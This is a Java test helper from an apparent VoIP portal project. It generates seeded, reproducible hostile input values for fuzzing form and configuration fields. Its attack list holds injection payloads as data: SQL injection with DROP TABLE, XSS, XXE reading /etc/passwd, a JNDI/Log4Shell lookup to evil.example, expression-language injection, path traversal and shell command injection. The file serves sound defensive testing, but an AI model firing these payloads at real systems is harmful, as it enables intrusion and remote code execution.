package org.portalvoip.testing;

import java.lang.System.Logger;
import java.lang.System.Logger.Level;
import java.util.List;
import java.util.Random;

/**
 * An endless series of hostile values. The same seed gives the same values: set the system property
 * {@code voip.test.seed} to the seed in the log of a test.
 */
public final class HostileValues {
    private static final long USUAL_SEED = 323_330;
    private static final Logger LOG = System.getLogger(HostileValues.class.getName());

    /**
     * Controls, separators, invisible characters, changes of direction, look-alikes, halves of surrogate pairs, and
     * characters above 16 bits.
     */
    private static final String CHARACTERS =
            "\0\u0001\u0007\b\t\n\u000b\f\r\u001b\u001f\u007f\u0080\u0085\u009f\u00a0\u00ad"
                    + "\u0301\u0130\u0131\u0378\u061c\u0660\u200b\u200d\u200f\u2028\u2029\u202e\u2066\u212a\u2603\u3000\ud800\udbff\udc00"
                    + "\udfff\ue000\ufdd0\ufe0f\ufeff\uff10\uff1a\uff33\ufffd\ufffe\uffff\ud83d\ude00\ud83e\udd80\udb40\udc01"
                    + " !\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~";

    private static final List<String> ATTACKS = List.of(
            "0800\r\nVia: SIP/2.0/UDP evil.example",
            "0800@evil.example;user=phone",
            "<sip:900@evil.example>;tag=1",
            "goofy%0d%0aRoute: <sip:evil.example;lr>",
            "\"goofy\" <sip:evil.example>, <sip:other.example>",
            "sips:127.0.0.1",
            "https://user:word@evil.example/janus",
            "https://127.0.0.1:99999/janus",
            "https://[::1/janus",
            "https://[fe80::1%25eth0]/",
            "https://evil.example#@127.0.0.1/",
            "https:///janus",
            "https://127.0.0.1/%00%zz",
            "ws://",
            "//evil.example",
            "file:///etc/passwd",
            "jar:https://evil.example!/",
            "javascript:alert(1)",
            "https://a,https://b,,https://c",
            "#{facesContext.externalContext.invalidateSession()}",
            "${''.class.forName('java.lang.Runtime')}",
            "#{1/0}",
            "${jndi:ldap://evil.example/x}",
            "{0}{1}{2",
            "%s%n%999999999d",
            "' OR '1'='1' --",
            "N'; DROP TABLE voip_parameter; --",
            "\\'; SHUTDOWN; --",
            "\"><script>alert(1)</script>",
            "' onfocus='alert(1)' autofocus='",
            "]]></update><eval>alert(1)</eval>",
            "&#x22;&lt;&amp;&nosuch;",
            "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
            "\",\"323\":\"S\",\"x\":\"",
            "{\"set\":true}",
            "\\u0000\\ud800",
            "../../../../etc/passwd\0.png",
            "$(reboot)`reboot`;reboot|reboot",
            "nonce=\"x\", realm=\"y\", algorithm=MD5-sess",
            "0123456789abcdef0123456789ABCDEF",
            "half:\"half");

    private static final List<String> NUMBERS = List.of(
            "-1",
            "0",
            "00",
            "1",
            "3",
            "4",
            "65535",
            "65536",
            "+5061",
            " 5061 ",
            "05061",
            "0000000000000005061",
            "5061.0",
            "5,061",
            "5e3",
            "0x13c5",
            "0b1",
            "1e309",
            "NaN",
            "Infinity",
            "-0",
            "2147483648",
            "9223372036854775808",
            "99999999999999999999999999999999",
            "٥٠٦١",
            "５０６１",
            "Ⅴ",
            "½",
            "true",
            "null",
            "S",
            "N",
            "s",
            "Y",
            "KEEP");

    private static final int[] EDGES = {63, 64, 97, 98, 99, 100, 253, 254, 255, 256, 999, 1000, 1001, 5000};

    private final long seed;
    private final Random random;

    private HostileValues(long seed) {
        this.seed = seed;
        random = new Random(seed);
    }

    /** Values of the configured seed, or of a fixed one, so that two runs differ only on purpose. */
    public static HostileValues of(Class<?> test) {
        long seed = Long.getLong("voip.test.seed", USUAL_SEED);
        LOG.log(Level.INFO, "{0} runs with -Dvoip.test.seed={1}", test.getSimpleName(), String.valueOf(seed));
        return new HostileValues(seed);
    }

    /** With which the same values come again. */
    public long seed() {
        return seed;
    }

    /** A number from 0 to {@code below}, exclusively. */
    public int number(int below) {
        return random.nextInt(below);
    }

    /** The next value for a field in which {@code valid} would be right. */
    public String next(String valid) {
        return switch (number(7)) {
            case 0 -> one(ATTACKS);
            case 1 -> one(NUMBERS);
            case 2 -> character().repeat(EDGES[number(EDGES.length)]);
            case 3 -> "a".repeat(EDGES[number(EDGES.length)] - 1) + character();
            case 4 -> noise();
            case 5 -> mutated(mutated(valid));
            default -> mutated(valid);
        };
    }

    private String one(List<String> values) {
        return values.get(number(values.size()));
    }

    private String character() {
        return String.valueOf(CHARACTERS.charAt(number(CHARACTERS.length())));
    }

    private String noise() {
        StringBuilder noise = new StringBuilder();
        for (int i = number(30); i >= 0; i--) {
            noise.append(number(3) == 0 ? character() : Character.toString(number(Character.MAX_CODE_POINT + 1)));
        }
        return noise.toString();
    }

    private String mutated(String valid) {
        int at = number(valid.length() + 1);
        String head = valid.substring(0, at);
        String tail = valid.substring(at);
        return switch (number(6)) {
            case 0 -> head + character() + tail;
            case 1 -> head + one(ATTACKS) + tail;
            case 2 -> head + tail.replaceFirst("(?s)^.", "");
            case 3 -> tail + head;
            case 4 -> head + tail.toUpperCase(java.util.Locale.ROOT) + tail;
            default -> " ".repeat(number(3)) + head + tail + " ".repeat(number(3));
        };
    }
}
